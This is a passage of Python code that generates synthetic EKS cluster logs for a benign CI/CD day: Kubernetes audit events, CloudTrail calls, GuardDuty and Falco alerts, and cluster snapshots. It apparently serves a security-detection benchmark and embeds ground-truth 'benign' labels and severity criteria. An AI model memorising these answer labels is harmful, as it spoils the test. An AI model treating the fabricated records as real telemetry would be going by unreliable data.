        audit(t + timedelta(seconds=5), u_plain("eks:cloud-controller-manager", ["system:authenticated"]), "patch", f"/api/v1/nodes/{n.name}",
              oref("nodes", None, n.name), ua="aws-cloud-controller-manager/v1.32.1 (linux/amd64) kubernetes/$Format/cloud-node-controller",
              level="RequestResponse", req={"metadata": {"labels": {"node.kubernetes.io/instance-type": "m6i.xlarge",
                                                                     "topology.k8s.aws/zone-id": "use1-az" + str(ord(n.zone[-1]) - 96)}}},
              resp={"kind": "Node", "apiVersion": "v1", "metadata": {"name": n.name, "uid": n.uid}},
              reason=crb_reason("eks:cloud-controller-manager", "eks:cloud-controller-manager", "User", "eks:cloud-controller-manager"), step=step)


def bcd_autoscaler_scale_down():
    """scale in at 17:20: ip-10-42-71-88 is drained and terminated"""
    ca_user = u_sa("kube-system", "cluster-autoscaler", B["ca_pod"], stable_uuid(f"pod/kube-system/{B['ca_pod']}"), B["ca_node"])
    CA = dict(user=ca_user, src=[B["ca_ip"]], ua=CA_UA,
              reason=crb_reason("cluster-autoscaler", "cluster-autoscaler", "ServiceAccount", "cluster-autoscaler/kube-system"))
    oidc = f"arn:aws:iam::{S.account}:oidc-provider/oidc.eks.{S.region}.amazonaws.com/id/7F3A9C2E1B0D4E5F6A7B8C9D0E1F2A3B"
    asg_slr = lambda t: id_service_linked("AWSServiceRoleForAutoScaling", "AROARQ4WZT7KASGSLR8T", "AutoScaling", "autoscaling.amazonaws.com", t)
    step = "autoscaler-scale-down"
    n5 = B["n5"]
    t = T("17:20:11.508312")
    audit(t, verb="patch", uri=f"/api/v1/nodes/{n5.name}", objref=oref("nodes", None, n5.name), level="RequestResponse",
          req={"spec": {"taints": [{"key": "ToBeDeletedByClusterAutoscaler", "value": "1774459211", "effect": "NoSchedule"}]}},
          resp={"kind": "Node", "apiVersion": "v1", "metadata": {"name": n5.name, "uid": n5.uid}}, step=step, **CA)
    evicted = [name for name, p in sorted(B["pods"].items()) if p[1] is n5 and p[4] != "DaemonSet"]
    for k, name in enumerate(evicted):
        ns = B["pods"][name][0]
        audit(t + timedelta(seconds=1 + k), verb="create", uri=f"/api/v1/namespaces/{ns}/pods/{name}/eviction",
              objref=oref("pods", ns, name, sub="eviction"), code=201, level="RequestResponse",
              req={"kind": "Eviction", "apiVersion": "policy/v1", "metadata": {"name": name, "namespace": ns},
                   "deleteOptions": {"gracePeriodSeconds": 30}},
              resp={"kind": "Status", "apiVersion": "v1", "metadata": {}, "status": "Success", "code": 201}, step=step, **CA)
        B["pods"].pop(name)
        repl = f"{B['rs']['worker-1']}-{suffix('repl' + name)}"
        pod_lifecycle_create(t + timedelta(seconds=2 + k, microseconds=311000), ns, repl, B["rs"]["worker-1"], "ReplicaSet", B["n2"],
                             B["n2"].prefix + str(160 + k), B["images"]["worker-1"], "payments-worker", step, "replicaset-controller")
    key2 = web_identity_assume(T("17:20:40"), B["ca_role"], B["ca_role_id"], "1774459240000000000", oidc,
                               "system:serviceaccount:kube-system:cluster-autoscaler", "sts.amazonaws.com", B["nat"], CA_AWS_UA, step)
    ident = id_role(B["ca_role"], B["ca_role_id"], "1774459240000000000", key2, T("17:20:40"),
                    {"webIdFederationData": {"federatedProvider": oidc, "attributes": {}}})
    ct(T("17:20:44"), ident, "autoscaling.amazonaws.com", "TerminateInstanceInAutoScalingGroup",
       params={"instanceId": n5.instance, "shouldDecrementDesiredCapacity": True},
       resp={"activity": {"activityId": stable_uuid("act-term"), "autoScalingGroupName": B["asg"],
                          "description": f"Terminating EC2 instance: {n5.instance}", "cause": "At 2026-03-25T17:20:44Z instance "
                          f"{n5.instance} was taken out of service in response to a user request, shrinking the capacity from 5 to 4.",
                          "startTime": "Mar 25, 2026, 5:20:44 PM", "statusCode": "InProgress", "progress": 0}},
       ip=B["nat"], ua=CA_AWS_UA, read_only=False, step=step)
    ct(T("17:20:46"), asg_slr(T("17:20:45")), "ec2.amazonaws.com", "TerminateInstances",
       params={"instancesSet": {"items": [{"instanceId": n5.instance}]}},
       resp={"instancesSet": {"items": [{"instanceId": n5.instance, "currentState": {"code": 32, "name": "shutting-down"},
                                         "previousState": {"code": 16, "name": "running"}}]}},
       ip="autoscaling.amazonaws.com", ua="autoscaling.amazonaws.com", read_only=False, step=step, tls=False)
    for name, p in list(B["pods"].items()):
        if p[1] is n5:
            B["pods"].pop(name)
    audit(T("17:22:19.300418"), u_plain("eks:cloud-controller-manager", ["system:authenticated"]), "delete", f"/api/v1/nodes/{n5.name}",
          oref("nodes", None, n5.name), ua="aws-cloud-controller-manager/v1.32.1 (linux/amd64) kubernetes/$Format/node-lifecycle-controller",
          reason=crb_reason("eks:cloud-controller-manager", "eks:cloud-controller-manager", "User", "eks:cloud-controller-manager"), step=step)


def bcd_sre():
    step = "sre-maintenance"
    sso_role = "AWSReservedSSO_PlatformAdmin_3c1d5e7f9a2b4c6d"
    t = T("20:03:12")
    sso = id_role(sso_role, "AROARQ4WZT7KSSOADMN6", B["sre"], akid("ASIA"), T("19:58:40"), path="aws-reserved/sso.amazonaws.com/")
    key = akid("ASIA")
    admin_arn = f"arn:aws:iam::{S.account}:role/{B['admin_role']}"
    cli = "aws-cli/2.24.10 md/awscrt#0.23.8 ua/2.1 os/macos#24.3.0 md/arch#arm64 lang/python#3.12.9 md/pyimpl#CPython cfg/retry-mode#standard md/installer#exe md/prompt#off md/command#"
    ct(t, sso, "sts.amazonaws.com", "AssumeRole", params={"roleArn": admin_arn, "roleSessionName": B["sre"], "durationSeconds": 3600},
       resp={"credentials": {"accessKeyId": key, "sessionToken": fake_session_token(), "expiration": iam_date(t + timedelta(hours=1))},
             "assumedRoleUser": {"assumedRoleId": f"{B['admin_role_id']}:{B['sre']}", "arn": B["admin_user"]}},
       ip=B["sre_ip"], ua=cli + "sts.assume-role", step=step, resources=[{"accountId": S.account, "type": "AWS::IAM::Role", "ARN": admin_arn}])
    ident = id_role(B["admin_role"], B["admin_role_id"], B["sre"], key, t)
    ct(t + timedelta(seconds=9), ident, "eks.amazonaws.com", "DescribeCluster", params={"name": S.cluster}, ip=B["sre_ip"],
       ua=cli + "eks.update-kubeconfig", step=step)
    user = u_iam_role(B["admin_user"], [], B["admin_role"], B["admin_role_id"], B["sre"], key)
    R = dict(user=user, src=[B["sre_ip"]], ua=KUBECTL_SRE, step=step, reason=policy_reason(admin_arn, B["admin_user"]))
    audit(T("20:04:31.220871"), verb="list", uri="/api/v1/namespaces/kube-system/pods?limit=500", objref=oref("pods", "kube-system"),
          level="Request", **R)
    # exec into aws-node on the new node to look at ipamd (kubectl 1.32: WebSocket exec, logged as get)
    an = [n for n, p in sorted(B["pods"].items()) if p[5] == "aws-node" and p[1] is B["n4"]][0]
    aid = uid()
    recv = T("20:06:02.114390")
    uri = f"/api/v1/namespaces/kube-system/pods/{an}/exec?command=bash&container=aws-node&stdin=true&stdout=true&tty=true"
    audit(ms(recv, 30, 60), verb="get", uri=uri, objref=oref("pods", "kube-system", an, sub="exec"), stage="ResponseStarted",
          audit_id=aid, received=recv, code=101, **R)
    audit(T("20:14:47.902115"), verb="get", uri=uri, objref=oref("pods", "kube-system", an, sub="exec"), stage="ResponseComplete",
          audit_id=aid, received=recv, code=101, **R)
    B["sre_exec"] = (an, recv)
    n = B["n4"]
    cid = container_id("kube-system", an, "aws-node")[:12]
    ctext = container_text(an, "kube-system", cid, "602401143452.dkr.ecr.us-east-1.amazonaws.com/amazon-k8s-cni", "v1.19.2-eksbuild.1", "aws-node")
    falco(T("20:06:02.391552"), 804, "Terminal shell in container", "Notice", hostname=n.name,
          tags=["T1059", "container", "maturity_stable", "mitre_execution", "shell"],
          message="A shell was spawned in a container with an attached terminal",
          text_fields=proc_text("execve", "root", 0, "bash", "/usr/bin/bash", "runc", "bash", 34816)
                      + [("exe_flags", "EXE_WRITABLE|EXE_LOWER_LAYER")] + ctext,
          fields=dict(container_fields(an, "kube-system", cid, "602401143452.dkr.ecr.us-east-1.amazonaws.com/amazon-k8s-cni",
                                       "v1.19.2-eksbuild.1", "aws-node"),
                      **proc_fields("execve", "root", 0, "bash", "/usr/bin/bash", "runc", "bash", 34816),
                      **{"evt.arg.flags": "EXE_WRITABLE|EXE_LOWER_LAYER"}),
          label="benign", step=step)
    # a one-shot exec into kube-proxy to count iptables rules
    kp = [n for n, p in sorted(B["pods"].items()) if p[5] == "kube-proxy" and p[1] is B["n4"]][0]
    aid2 = uid()
    recv2 = T("20:16:20.551006")
    uri2 = f"/api/v1/namespaces/kube-system/pods/{kp}/exec?command=iptables-save&container=kube-proxy&stdout=true"
    audit(ms(recv2, 20, 50), verb="get", uri=uri2, objref=oref("pods", "kube-system", kp, sub="exec"), stage="ResponseStarted",
          audit_id=aid2, received=recv2, code=101, **R)
    audit(T("20:16:21.307644"), verb="get", uri=uri2, objref=oref("pods", "kube-system", kp, sub="exec"), stage="ResponseComplete",
          audit_id=aid2, received=recv2, code=101, **R)
    # kubectl rollout restart daemonset/aws-node
    t = T("20:24:05.660213")
    audit(t, verb="patch", uri="/apis/apps/v1/namespaces/kube-system/daemonsets/aws-node?fieldManager=kubectl-rollout",
          objref=oref("daemonsets", "kube-system", "aws-node", "apps", uid_=stable_uuid("DaemonSet/aws-node")), level="RequestResponse",
          req={"spec": {"template": {"metadata": {"annotations": {"kubectl.kubernetes.io/restartedAt": "2026-03-25T21:24:05+01:00"}}}}},
          resp={"kind": "DaemonSet", "apiVersion": "apps/v1", "metadata": {"name": "aws-node", "namespace": "kube-system",
                                                                          "uid": stable_uuid("DaemonSet/aws-node")}}, **R)
    olds = sorted([(p[1].name, name) for name, p in B["pods"].items() if p[5] == "aws-node"])
    for k, (_, name) in enumerate(olds):
        node = B["pods"][name][1]
        t += timedelta(seconds=S.rng.randint(14, 22), microseconds=S.rng.randint(0, 999999))
        pod_delete(t, "kube-system", name, "daemon-set-controller", step)
        pod_lifecycle_create(t + timedelta(seconds=3), "kube-system", f"aws-node-{suffix('restart' + node.name)}", "aws-node", "DaemonSet",
                             node, node.ip, "602401143452.dkr.ecr.us-east-1.amazonaws.com/amazon-k8s-cni:v1.19.2-eksbuild.1", "aws-node",
                             step, "daemon-set-controller")
    audit(t + timedelta(seconds=30), verb="watch",
          uri="/apis/apps/v1/namespaces/kube-system/daemonsets?fieldSelector=metadata.name%3Daws-node&resourceVersion=0&watch=true",
          objref=oref("daemonsets", "kube-system", group="apps"), level="Request", received=T("20:24:06.102551"), **R)
    # GuardDuty reports the exec into a kube-system pod (EKS Protection reads the audit log itself)
    admin = {"username": B["admin_user"], "uid": user["uid"], "groups": user["groups"],
             "sessionName": [B["sre"]]}
    act = {"actionType": "KUBERNETES_API_CALL", "kubernetesApiCallAction": {
        "requestUri": uri, "verb": "get", "sourceIPs": [B["sre_ip"]], "userAgent": KUBECTL_SRE, "statusCode": 101,
        "remoteIpDetails": {"ipAddressV4": B["sre_ip"], "organization": {"asn": "64500", "asnOrg": "EXAMPLE-CORP-NET", "isp": "Example Corp",
                                                                          "org": "Example Corp"},
                            "country": {"countryName": "Germany"}, "city": {"cityName": "Berlin"}, "geoLocation": {"lat": 52.52, "lon": 13.405}},
        "resource": "pods", "subresource": "exec", "namespace": "kube-system", "resourceName": an}}
    finding("b3d5f7a9c1e3b5d7f9a1c3e5b7d9f1a3", "Execution:Kubernetes/ExecInKubeSystemPod", 5,
            "Command executed inside a pod in kube-system namespace.",
            f"A command was executed inside a pod in kube-system namespace on EKS Cluster {S.cluster}.",
            {"resourceType": "EKSCluster",
             "eksClusterDetails": {"name": S.cluster, "arn": S.cluster_arn, "vpcId": B["vpc"], "status": "ACTIVE",
                                   "tags": [{"key": "team", "value": "payments"}, {"key": "env", "value": "production"}],
                                   "createdAt": epoch(T("10:14:37.412", "2025-06-02"))},
             "kubernetesDetails": {"kubernetesUserDetails": admin,
                                   "kubernetesWorkloadDetails": {"name": an, "type": "pods", "uid": stable_uuid(f"pod/kube-system/{an}"),
                                                                 "namespace": "kube-system", "hostNetwork": True,
                                                                 "containers": [{"name": "aws-node", "image": "602401143452.dkr.ecr.us-east-1.amazonaws.com/amazon-k8s-cni:v1.19.2-eksbuild.1",
                                                                                 "imagePrefix": "602401143452.dkr.ecr.us-east-1.amazonaws.com"}]}},
             "accessKeyDetails": {"accessKeyId": key, "principalId": f"{B['admin_role_id']}:{B['sre']}", "userName": B["admin_role"],
                                  "userType": "AssumedRole"}},
            service_block(recv, recv, 1, act), T("20:12:44.318"), T("20:12:44.318"), label="benign", step=step)


def bcd_nodes_at(t):
    ns = list(B["base_nodes"])
    if t >= T("10:15:40"):
        ns.append(B["n4"])
    if T("10:15:51") <= t < T("17:21:00"):
        ns.append(B["n5"])
    return ns


def bcd_background():
    role, rid = B["node_role"], B["node_role_id"]
    t = T("08:30:07.118204")
    end = T("22:30:00")
    i = 0
    while t < end:
        k = i % 5
        nodes = bcd_nodes_at(t)
        n = nodes[i % len(nodes)]
        if k == 0:
            node_lease(n, t, KUBELET_132, role, rid)
        elif k == 1:
            cp_lease(t, "kube-controller-manager", SERVER_132)
        elif k == 2:
            node_lease(n, t, KUBELET_132, role, rid)
        elif k == 3:
            audit(t, u_plain("eks:k8s-metrics", ["system:authenticated"]), "get", "/metrics", ua="Go-http-client/1.1",
                  reason=crb_reason("eks:k8s-metrics", "eks:k8s-metrics", "User", "eks:k8s-metrics"))
        else:
            name = "metrics-server-5f8c7d9b6-hx4lm"
            audit(t, u_sa("kube-system", "metrics-server", name, stable_uuid(f"pod/kube-system/{name}"), B["n3"]), "create",
                  "/apis/authentication.k8s.io/v1/tokenreviews", oref("tokenreviews", group="authentication.k8s.io"), code=201,
                  ua="metrics-server/v0.7.2 (linux/amd64) kubernetes/$Format", src=["10.42.78.61"],
                  reason=crb_reason("metrics-server:system:auth-delegator", "system:auth-delegator", "ServiceAccount",
                                    "metrics-server/kube-system"))
        i += 1
        t += timedelta(seconds=S.rng.randint(70, 110), microseconds=S.rng.randint(0, 999999))
    t = T("08:31:00")
    while t < end:
        for j, n in enumerate(bcd_nodes_at(t)):
            node_status(n, t + timedelta(seconds=7 + 13 * j, microseconds=S.rng.randint(0, 999999)), KUBELET_132, role, rid)
        t += timedelta(minutes=15)
    cni = "aws-sdk-go-v2/1.32.7 ua/2.1 os/linux lang/go#1.23.4 md/GOOS#linux md/GOARCH#amd64 api/ec2#1.198.1 m/E amazon-vpc-cni-k8s/v1.19.2"
    for h in range(9, 23, 2):
        for j, n in enumerate(bcd_nodes_at(T(f"{h:02d}:00:00"))):
            tt = T(f"{h:02d}:{(7 * j + 3) % 60:02d}:{(13 * j + 11) % 60:02d}")
            ident = id_role(role, rid, n.instance, n.asia, tt - timedelta(minutes=20), {"ec2RoleDelivery": "2.0"})
            ct(tt, ident, "ec2.amazonaws.com", "DescribeNetworkInterfaces",
               params={"networkInterfaceIdSet": {}, "filterSet": {"items": [{"name": "tag-key", "valueSet": {"items": [{"value": "node.k8s.amazonaws.com/instance_id"}]}},
                                                                          {"name": "status", "valueSet": {"items": [{"value": "available"}]}}]}},
               ip=B["nat"], ua=cni)


def bcd_snapshot():
    snap = B["snap"]
    eks = "602401143452.dkr.ecr.us-east-1.amazonaws.com"
    pods = []
    for name, (ns, n, ip, created, kind, own, image, sa) in sorted(B["pods"].items()):
        cname = sa if sa not in ("payments-api", "payments-worker") else sa
        c = {"name": cname, "image": image, "resources": {"requests": {"cpu": "25m"}}}
        vols, hostnet, labels, pc, tol = [], False, {"k8s-app": own}, None, None
        if own == "aws-node":
            hostnet, pc, tol = True, "system-node-critical", [{"operator": "Exists"}]
            c["securityContext"] = {"capabilities": {"add": ["NET_ADMIN", "NET_RAW"]}}
            c["volumeMounts"] = [{"name": "cni-bin-dir", "mountPath": "/host/opt/cni/bin"}, {"name": "cni-net-dir", "mountPath": "/host/etc/cni/net.d"}]
            vols = [{"name": "cni-bin-dir", "hostPath": {"path": "/opt/cni/bin", "type": ""}},
                    {"name": "cni-net-dir", "hostPath": {"path": "/etc/cni/net.d", "type": ""}}]
        elif own == "kube-proxy":
            hostnet, pc, tol = True, "system-node-critical", [{"operator": "Exists"}]
            c["securityContext"] = {"privileged": True}
            c["volumeMounts"] = [{"name": "lib-modules", "mountPath": "/lib/modules", "readOnly": True}]
            vols = [{"name": "lib-modules", "hostPath": {"path": "/lib/modules", "type": ""}}]
        elif sa == "coredns":
            labels, pc = {"k8s-app": "kube-dns", "eks.amazonaws.com/component": "coredns"}, "system-cluster-critical"
        elif sa == "cluster-autoscaler":
            labels, pc = {"app.kubernetes.io/name": "cluster-autoscaler"}, "system-cluster-critical"
            c["command"] = ["./cluster-autoscaler", "--cloud-provider=aws", "--expander=least-waste", "--balance-similar-node-groups",
                            "--skip-nodes-with-system-pods=false",
                            "--node-group-auto-discovery=asg:tag=k8s.io/cluster-autoscaler/enabled,k8s.io/cluster-autoscaler/prod-payments"]
            c["securityContext"] = {"allowPrivilegeEscalation": False, "readOnlyRootFilesystem": True, "runAsNonRoot": True,
                                    "runAsUser": 65534, "capabilities": {"drop": ["ALL"]}}
        elif sa == "metrics-server":
            labels, pc = {"k8s-app": "metrics-server"}, "system-cluster-critical"
        else:
            labels = {"app.kubernetes.io/name": sa}
            c["resources"] = {"limits": {"cpu": "1", "memory": "1Gi"}, "requests": {"cpu": "250m", "memory": "512Mi"}}
            c["securityContext"] = {"allowPrivilegeEscalation": False, "runAsNonRoot": True, "runAsUser": 10001}
        if kind == "ReplicaSet":
            labels["pod-template-hash"] = own.rsplit("-", 1)[1]
        else:
            labels["controller-revision-hash"] = "6c9d8b7f5" if own != "aws-node" or created < T("20:00:00") else "84b6f5d7c9"
        pods.append(make_pod(name, ns, created, [c], n, ip, labels=labels, owner_ref=owner(kind, own), sa=sa, host_network=hostnet,
                             volumes=vols, generate_name=own + "-", priority_class=pc, tolerations=tol))
    pods.sort(key=lambda p: (p["metadata"]["namespace"], p["metadata"]["name"]))
    def pc_(app, image):
        return [{"name": app, "image": image, "resources": {"limits": {"cpu": "1", "memory": "1Gi"}, "requests": {"cpu": "250m", "memory": "512Mi"}},
                 "securityContext": {"allowPrivilegeEscalation": False, "runAsNonRoot": True, "runAsUser": 10001}}]
    lab = lambda app: {"app.kubernetes.io/name": app}
    deps = [deployment("payments-api", "payments", "2025-06-03T08:20:07Z", 3, lab("payments-api"), lab("payments-api"),
                       pc_("payments-api", B["images"]["api-2"]), "payments-api", "7f5b8c9d62", 58),
            deployment("payments-worker", "payments", "2025-06-03T08:20:09Z", 2, lab("payments-worker"), lab("payments-worker"),
                       pc_("payments-worker", B["images"]["worker-1"]), "payments-worker", "58d6c4b7f9", 31)]
    rss = []
    for key, app, reps, rev in (("api-1", "payments-api", 0, 57), ("api-2", "payments-api", 3, 58), ("worker-0", "payments-worker", 0, 30),
                                ("worker-1", "payments-worker", 2, 31)):
        created = {"api-1": T("09:02:50"), "api-2": T("15:20:40"), "worker-0": T("09:12:00", "2026-03-20"), "worker-1": T("11:38:30")}[key]
        r = replicaset(app, "payments", B["rs"][key].rsplit("-", 1)[1], iso_s(created), reps, lab(app), pc_(app, B["images"][key]), app, rev)
        r["metadata"]["name"] = B["rs"][key]
        r["metadata"]["uid"] = stable_uuid(f"ReplicaSet/{B['rs'][key]}")
        h = B["rs"][key].rsplit("-", 1)[1]
        for o in (r["metadata"]["labels"], r["spec"]["selector"]["matchLabels"], r["spec"]["template"]["metadata"]["labels"]):
            o["pod-template-hash"] = h
        rss.append(r)
    def ds(name, image, created, restarted=None):
        tmpl_ann = {"kubectl.kubernetes.io/restartedAt": restarted} if restarted else None
        d = {"apiVersion": "apps/v1", "kind": "DaemonSet",
             "metadata": meta(name, "kube-system", created, {"k8s-app": name}, {"deprecated.daemonset.template.generation": "7" if restarted else "3"},
                              extra={"uid": stable_uuid(f"DaemonSet/{name}"), "generation": 7 if restarted else 3}),
             "spec": {"selector": {"matchLabels": {"k8s-app": name}},
                      "template": {"metadata": {"creationTimestamp": None, "labels": {"k8s-app": name}, **({"annotations": tmpl_ann} if tmpl_ann else {})},
                                   "spec": {"containers": [{"name": name, "image": image}], "hostNetwork": True, "serviceAccountName": name,
                                            "priorityClassName": "system-node-critical", "tolerations": [{"operator": "Exists"}]}},
                      "updateStrategy": {"type": "RollingUpdate", "rollingUpdate": {"maxUnavailable": "10%", "maxSurge": 0}}},
             "status": {"currentNumberScheduled": 4, "numberMisscheduled": 0, "desiredNumberScheduled": 4, "numberReady": 4,
                        "observedGeneration": 7 if restarted else 3, "updatedNumberScheduled": 4, "numberAvailable": 4}}
        return d
    dss = [ds("aws-node", f"{eks}/amazon-k8s-cni:v1.19.2-eksbuild.1", "2025-06-02T10:24:03Z", "2026-03-25T21:24:05+01:00"),
           ds("kube-proxy", f"{eks}/eks/kube-proxy:v1.32.0-minimal-eksbuild.2", "2025-06-02T10:22:56Z")]
    sas = [serviceaccount(n, ns_, c, a) for n, ns_, c, a in (
        ("aws-node", "kube-system", "2025-06-02T10:24:03Z", None), ("coredns", "kube-system", "2025-06-02T10:22:55Z", None),
        ("kube-proxy", "kube-system", "2025-06-02T10:22:56Z", None), ("metrics-server", "kube-system", "2025-06-02T10:31:40Z", None),
        ("cluster-autoscaler", "kube-system", "2025-06-04T09:10:12Z", {"eks.amazonaws.com/role-arn": f"arn:aws:iam::{S.account}:role/{B['ca_role']}"}),
        ("default", "kube-system", "2025-06-02T10:22:51Z", None), ("default", "payments", "2025-06-03T08:20:01Z", None),
        ("payments-api", "payments", "2025-06-03T08:20:05Z", {"eks.amazonaws.com/role-arn": f"arn:aws:iam::{S.account}:role/payments-api-irsa"}),
        ("payments-worker", "payments", "2025-06-03T08:20:06Z", {"eks.amazonaws.com/role-arn": f"arn:aws:iam::{S.account}:role/payments-worker-irsa"}))]
    crbs = system_crbs("2025-06-02T10:22:51Z") + [
        crb("cluster-autoscaler", "cluster-autoscaler", [SA("cluster-autoscaler", "kube-system")], "2025-06-04T09:10:12Z",
            labels={"app.kubernetes.io/name": "cluster-autoscaler"}),
        crb("metrics-server:system:auth-delegator", "system:auth-delegator", [SA("metrics-server", "kube-system")], "2025-06-02T10:31:40Z")]
    crbs.sort(key=lambda o: o["metadata"]["name"])
    rbs = [rb("payments-deployers", "payments", "ClusterRole", "edit", [G("payments:deployers")], "2025-06-03T08:20:12Z"),
           rb("payments-api-config-reader", "payments", "Role", "payments-config-reader", [SA("payments-api", "payments")], "2025-06-03T08:22:40Z"),
           rb("cluster-autoscaler", "kube-system", "Role", "cluster-autoscaler", [SA("cluster-autoscaler", "kube-system")], "2025-06-04T09:10:12Z")]
    nps = [{"apiVersion": "networking.k8s.io/v1", "kind": "NetworkPolicy", "metadata": meta("payments-default-deny", "payments", "2026-03-16T10:02:11Z"),
            "spec": {"podSelector": {}, "policyTypes": ["Ingress"]}},
           {"apiVersion": "networking.k8s.io/v1", "kind": "NetworkPolicy", "metadata": meta("payments-api-from-ingress", "payments", "2026-03-16T10:02:11Z"),
            "spec": {"podSelector": {"matchLabels": {"app.kubernetes.io/name": "payments-api"}}, "policyTypes": ["Ingress"],
                     "ingress": [{"from": [{"ipBlock": {"cidr": "10.42.0.0/16"}}], "ports": [{"protocol": "TCP", "port": 8080}]}]}}]
    cms = [aws_auth(f"arn:aws:iam::{S.account}:role/{B['node_role']}", "2025-06-02T10:33:12Z"),
           {"apiVersion": "v1", "kind": "ConfigMap", "data": {"status": "Cluster-autoscaler status at 2026-03-25 22:59:51.504112 +0000 UTC:\n"
                                                                        "Cluster-wide:\n  Health:      Healthy (ready=4 unready=0 notStarted=0 registered=4 longUnregistered=0)\n"},
            "metadata": meta("cluster-autoscaler-status", "kube-system", "2025-06-04T09:10:30Z")}]
    eks_ = describe_cluster("1.32", "https://7F3A9C2E1B0D4E5F6A7B8C9D0E1F2A3B.gr7.us-east-1.eks.amazonaws.com", list(B["subnets"].values()),
                            B["cluster_sg"], B["vpc"], "2025-06-02T10:14:37.412000+00:00", "eks.6", {"team": "payments", "env": "production"},
                            ["198.51.100.0/24", "192.0.2.0/24"], ["api", "audit", "authenticator"], "7F3A9C2E1B0D4E5F6A7B8C9D0E1F2A3B")
    entries = {"accessEntries": sorted(f"arn:aws:iam::{S.account}:role/{r}" for r in
                                       (B["gha_role"], B["tf_role"], B["admin_role"], B["node_role"]))}
    nodes = [node_object(n, "use1-az" + str(ord(n.zone[-1]) - 96), snap, "v1.32.1-eks-5d632ec", B["ami"]) for n in B["base_nodes"] + [B["n4"]]]
    return {"pods.json": k8s_list(pods), "deployments-payments.json": k8s_list(deps), "replicasets-payments.json": k8s_list(rss),
            "daemonsets-kube-system.json": k8s_list(dss), "nodes.json": k8s_list(nodes), "serviceaccounts.json": k8s_list(sas),
            "clusterrolebindings.json": k8s_list(crbs), "rolebindings.json": k8s_list(rbs), "networkpolicies.json": k8s_list(nps),
            "configmaps-kube-system.json": k8s_list(cms), "eks-describe-cluster.json": eks_, "eks-list-access-entries.json": entries}


def bcd_access_entry(role, username, groups):
    arn = f"arn:aws:iam::{S.account}:role/{role}"
    return {"accessEntry": {"clusterName": S.cluster, "principalArn": arn, "kubernetesGroups": groups,
                            "accessEntryArn": f"arn:aws:eks:{S.region}:{S.account}:access-entry/{S.cluster}/role/{S.account}/{role}/{sha('ae' + role)[:36]}",
                            "createdAt": "2026-03-16T09:41:22.517000+00:00", "modifiedAt": "2026-03-16T09:41:22.517000+00:00", "tags": {},
                            "username": username, "type": "STANDARD"}}


BCD_STEPS = {
    "ci-deploy-0902": "GitHub Actions (github-actions-deploy, self-hosted runner 198.51.100.20): push payments-api:2026.03.25-1, kubectl set image (patch), rollout",
    "ci-deploy-1137": "GitHub Actions: push payments-worker:2026.03.25-1, kubectl replace (update), rollout onto the two new nodes",
    "ci-deploy-1520": "GitHub Actions: push payments-api:2026.03.25-2, kubectl set image (patch), rollout",
    "terraform-apply": "Terraform 1.7.5 (github-actions-terraform): UpdateNodegroupConfig max 6 -> 10, node security group rule 9443 from 10.42.0.0/16 added and an old 8080 rule revoked, a feature-flag ConfigMap patched",
    "autoscaler-scale-up": "cluster-autoscaler (IRSA role prod-payments-cluster-autoscaler): SetDesiredCapacity 3 -> 5; the ASG launches two instances",
    "nodes-join": "two new nodes register (system:node:ip-10-42-39-201 / ip-10-42-71-88): CSR, Node, Lease; DaemonSet pods start on them",
    "autoscaler-scale-down": "cluster-autoscaler taints and drains ip-10-42-71-88 (evictions), TerminateInstanceInAutoScalingGroup; the node object is removed",
    "sre-maintenance": "platform-admin (jane.doe@example.com, 192.0.2.55) in the 20:00-22:00 maintenance window: exec into aws-node and kube-proxy pods, rollout restart of DaemonSet aws-node",
    "false-positive": "Falco Contact K8S API Server From Container for cluster-autoscaler (it is an API client by design)",
    "background": "kubelets, control plane, eks:k8s-metrics, metrics-server token reviews, VPC CNI DescribeInstances",
}


def when(step, name_prefix):
    """time of the first evidence record of a step whose name starts with name_prefix"""
    return min(r["time"] for r in truth_records() if r["step"] == step and r["name"].startswith(name_prefix))


def build_benign_day(out):
    bcd_world()
    bcd_initial_pods()
    n4, n5 = B["n4"], B["n5"]
    bcd_rollout(T("09:02:14.208315"), "payments-api", "api-0", "api-1", 3, "ci-deploy-0902", "patch")
    bcd_autoscaler_up_to_join()
    bcd_rollout(T("11:37:50.640772"), "payments-worker", "worker-0", "worker-1", 2, "ci-deploy-1137", "update", on_nodes=[n4, n5])
    bcd_terraform(T("13:05:03"))
    bcd_rollout(T("15:20:03.311904"), "payments-api", "api-1", "api-2", 3, "ci-deploy-1520", "patch")
    bcd_autoscaler_scale_down()
    bcd_sre()
    bcd_background()
    base = os.path.join(out, "benign-cicd-day")
    files = {}
    write_cloudtrail(base, files)
    write_lookup_events(base, files, "GitHubActions")
    write_audit(base, files, ["kube-apiserver-audit-3f1c8e0d9a7b46c2b5e4d1a0c9f8e7d6",
                              "kube-apiserver-audit-9b2e7d4c1a0f48e3b6d5c4a3f2e1d0c9"], "system:serviceaccount:kube-system:cluster-autoscaler")
    write_guardduty(base, files)
    write_falco(base, files)
    snap = bcd_snapshot()
    snap["eks-describe-access-entry-github-actions-deploy.json"] = bcd_access_entry(B["gha_role"], B["gha_user"], ["payments:deployers"])
    snap["eks-describe-access-entry-github-actions-terraform.json"] = bcd_access_entry(B["tf_role"], B["tf_user"], ["payments:deployers"])
    snap["eks-describe-access-entry-platform-admin.json"] = bcd_access_entry(
        B["admin_role"], f"arn:aws:sts::{S.account}:assumed-role/platform-admin/{{{{SessionName}}}}", [])
    snap["eks-list-associated-access-policies-platform-admin.json"] = {
        "clusterName": S.cluster, "principalArn": f"arn:aws:iam::{S.account}:role/{B['admin_role']}",
        "associatedAccessPolicies": [{"policyArn": "arn:aws:eks::aws:cluster-access-policy/AmazonEKSClusterAdminPolicy",
                                      "accessScope": {"type": "cluster", "namespaces": []},
                                      "associatedAt": "2026-03-16T09:41:25.104000+00:00", "modifiedAt": "2026-03-16T09:41:25.104000+00:00"}]}
    write_snapshot(base, files, snap)
    head = {
        "scenario": "benign-cicd-day",
        "summary": (f"A busy but benign day on {S.cluster} ({S.account}, {S.region}): three GitHub Actions rollouts, a Terraform run "
                    "that changes the node group's scaling limits and a node security-group rule, cluster-autoscaler scaling "
                    "from 3 to 5 nodes and back to 4, and an SRE's maintenance in kube-system inside the maintenance window."),
        "severity": "Low",
        "severity_criteria": [
            {"level": "Low", "criterion": "expected-but-unusual activity",
             "evidence": "every change is made by a configured CI/CD identity (github-actions-deploy, github-actions-terraform, "
                         "from 198.51.100.20 in trusted_cidrs), by cluster-autoscaler / the Auto Scaling service-linked role, or by "
                         "an admin principal (platform-admin) inside the maintenance window 2026-03-25T20:00Z-22:00Z"},
            {"level": "Low", "criterion": "likely false positive",
